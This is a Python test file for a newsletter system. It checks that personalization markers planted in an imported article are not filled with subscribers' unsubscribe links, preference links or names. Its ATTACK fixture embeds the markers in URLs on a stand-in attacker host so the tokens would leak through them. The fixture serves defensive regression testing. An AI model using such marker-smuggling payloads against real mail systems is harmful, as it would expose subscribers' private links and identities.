"""Issue 13 item 1: article content must not receive a reader's personal values.

An article imported from a feed or file carries the old fixed markers in its image URL,
URL, title (which becomes the preheader) and summary. Each reader's mail, as received
by a real SMTP server, has their links and name only where the template put them."""

from __future__ import annotations

import dataclasses
import json
import re

from content_support import full_issue
from sending_support import body
from sqlalchemy.orm import Session, sessionmaker

from newsletter import articles, builder, render, sender, subscribers, tokens
from newsletter.config import Settings
from newsletter.models import Delivery, Subscriber

MARKERS = "u=@@unsubscribe_url@@&p=@@preferences_url@@&n=@@subscriber_name@@"
ATTACK = {
    "title": "Big news @@unsubscribe_url@@ @@preferences_url@@ @@subscriber_name@@",
    "url": f"https://attacker.example/story?{MARKERS}",
    "image_url": f"https://attacker.example/p.png?{MARKERS}",
    "summary": f'<p>Read <a href="https://attacker.example/s?{MARKERS}">this</a> @@subscriber_name@@ '
    "@@unsubscribe_url@@</p>",
    "category": "news",
}


def import_attack(sessions: sessionmaker[Session], settings: Settings) -> str:
    """The attacker's article, imported like any JSON file, built into this week's issue."""
    with sessions.begin() as s:
        report = articles.import_file(s, settings, "feed.json", json.dumps([ATTACK]).encode())
        assert report.added == [ATTACK["title"]]
        return builder.build(s, settings).week


def test_markers_in_an_article_stay_literal_in_every_readers_mail(
    sessions: sessionmaker[Session], settings: Settings, smtp_server: object
) -> None:
    week = import_attack(sessions, settings)
    with sessions.begin() as s:
        subscribers.add(s, "ada@example.org", name="Ada Lovelace")
        subscribers.add(s, "bob@example.org", name="Bob Byron")

    sender.send(sessions, settings, week)

    with sessions.begin() as s:
        rows = {
            sub.email: (sub.id, d.issue_id)
            for sub, d in s.query(Subscriber, Delivery).join(Delivery, Delivery.subscriber_id == Subscriber.id)
        }
    received = {m.rcpt_tos[0]: m.message for m in smtp_server.messages}  # type: ignore[attr-defined]
    assert sorted(received) == ["ada@example.org", "bob@example.org"]
    for email, name in (("ada@example.org", "Ada Lovelace"), ("bob@example.org", "Bob Byron")):
        sid, issue_id = rows[email]
        html, text = body(received[email], "html"), body(received[email], "plain")
        unsubscribe, prefs = tokens.unsubscribe_url(settings, sid, issue_id), tokens.preferences_url(settings, sid)
        # The template's slots: one footer link each, one greeting, in both parts.
        assert html.count(unsubscribe) == text.count(unsubscribe) == 1
        assert html.count(prefs) == text.count(prefs) == 1
        assert html.count(name) == text.count(name) == 1
        assert f'href="{unsubscribe}"' in html and f"Hello {name} —" in text
        # The article's copies of the markers are left as they were.
        token = unsubscribe.rpartition("/")[2]
        for part in (html, text):
            assert token not in part.replace(unsubscribe, "")
        assert 'src="https://attacker.example/p.png?u=@@unsubscribe_url@@&amp;p=@@preferences_url@@' in html
        assert "Big news @@unsubscribe_url@@ @@preferences_url@@ @@subscriber_name@@" in text
        # Every attacker URL that reaches the mail (article links may go through /c/<token>) is as written.
        urls = re.findall(r"https://attacker\.example/[^\s\"<>)]*", html + text)
        assert urls and all("u=@@unsubscribe_url@@" in url for url in urls), urls


def test_a_render_draws_new_markers_and_personalize_fills_only_those(settings: Settings) -> None:
    content = full_issue(2, 1)
    lead = content.lead
    assert lead is not None
    first = render.render_variant(settings, content, ["news"])
    # Even an article that knows the markers of an earlier render cannot name the next one's.
    stolen = f"{first.slots.unsubscribe_url} {first.slots.subscriber_name}"
    content = dataclasses.replace(content, lead=dataclasses.replace(lead, title=stolen))
    variant = render.render_variant(settings, content, ["news"])
    assert variant.slots != first.slots
    html, text = render.personalize(
        variant,
        unsubscribe_url="https://x.example/u/SECRET",
        preferences_url="https://x.example/p/SECRET",
        name="@@x@@ Eve",
    )
    assert html.count("SECRET") == text.count("SECRET") == 2
    assert stolen in text and re.search(r"Hello @@x@@ Eve —", text)
